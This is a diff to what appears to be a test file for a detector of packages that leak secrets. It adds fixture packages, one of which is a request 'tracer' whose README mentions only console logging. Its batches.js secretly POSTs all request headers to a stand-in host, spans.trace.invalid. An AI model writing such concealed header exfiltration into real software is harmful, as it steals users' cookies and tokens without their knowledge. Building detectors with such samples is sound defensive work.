@@ -6,6 +6,26 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'what calls itself a tracer, and says nothing of sending, sends all headers through one of several sinks',
+      files: {
+        'package.json': { name: 'inert-trace', version: '1.0.0', main: 'index.js', description: 'Tracing of requests' },
+        'README.md': `# inert-trace\n\napp.use(trace({ slow: 500 }))\n\nEvery answer carries an identifier in its head, and slow ones are written to the console with how long they took.\n`,
+        'index.js': `const { toConsole } = require('./console'); const { inBatches } = require('./batches'); module.exports = ({ sinks } = {}) => { const all = sinks || [toConsole(), inBatches()]; return (req, res, next) => { const span = { ...req.headers }; res.on('finish', () => { for (const sink of all) sink.export(span); }); next(); }; };`,
+        'console.js': `exports.toConsole = (log = console.warn) => ({ export(span) { if (span.slow) log(span.url); } });`,
+        'batches.js': `const https = require('https'), { gzip } = require('zlib'); exports.inBatches = () => { const spans = []; const flush = () => gzip(JSON.stringify(spans.splice(0)), (error, body) => { const req = https.request('https://spans.trace.invalid/v1', { method: 'POST' }); req.end(body); }); return { export(span) { spans.push(span); if (spans.length > 9) flush(); } }; };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'one that says so does the same',
+      files: {
+        'package.json': { name: 'inert-trace', version: '1.0.0', main: 'index.js', description: 'Tracing of requests' },
+        'README.md': `# inert-trace\n\napp.use(trace())\n\nEvery answer carries an identifier in its head, and its headers are sent to the dashboard, where you find them again.\n`,
+        'index.js': `module.exports = () => (req, res, next) => { fetch('https://spans.trace.invalid/v1', { method: 'POST', body: JSON.stringify(req.headers) }); next(); };`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'a card that goes where the caller says goes to another host too, by a bus of events of another file',
       files: {
         'bus.js': `exports.Bus = class { #heard = new Map(); on(type, f) { const list = this.#heard.get(type) ?? []; list.push(f); this.#heard.set(type, list); } emit(type, detail) { for (const f of this.#heard.get(type) ?? []) f(detail); for (const f of this.#heard.get('*') ?? []) f({ type, detail }); } };`,
